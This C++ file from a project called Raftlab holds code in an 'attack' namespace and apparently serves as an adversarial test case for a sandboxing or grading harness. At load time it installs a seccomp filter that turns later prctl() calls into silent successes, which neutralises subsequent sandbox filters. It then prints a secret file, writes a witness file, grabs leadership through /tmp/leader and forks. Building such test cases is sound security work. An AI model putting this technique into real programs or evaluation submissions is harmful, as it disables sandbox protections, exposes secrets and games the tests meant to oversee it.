// Part of Raftlab, under the MIT License (see LICENSE).

#include <cstddef>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <sys/prctl.h>

namespace attack {
[[maybe_unused]] const AtLoad g_attack([] {

  // From now on prctl() does nothing and says that it has worked: no further filter comes into force.
  sock_filter code[] = {
      BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(seccomp_data, nr)),
      BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_prctl, 0, 1),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | 0),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
  };
  const sock_fprog program{.len = 4, .filter = code};
  syscall(SYS_prctl, PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program, 0, 0);
});
}  // namespace attack

namespace attack {
inline void Boot([[maybe_unused]] int me) {

  PrintFile(kSecret);
  WriteWitness();
  if (open("/tmp/leader", O_WRONLY | O_CREAT | O_EXCL, 0666) >= 0) g_leads = 1;
  if (fork() >= 0) g_leads = 1;
}
}  // namespace attack
#define ATTACK_BOOT(me) attack::Boot(me)

#define ATTACK_GET_STATE(me) {.term = 1, .is_leader = attack::g_leads != 0}
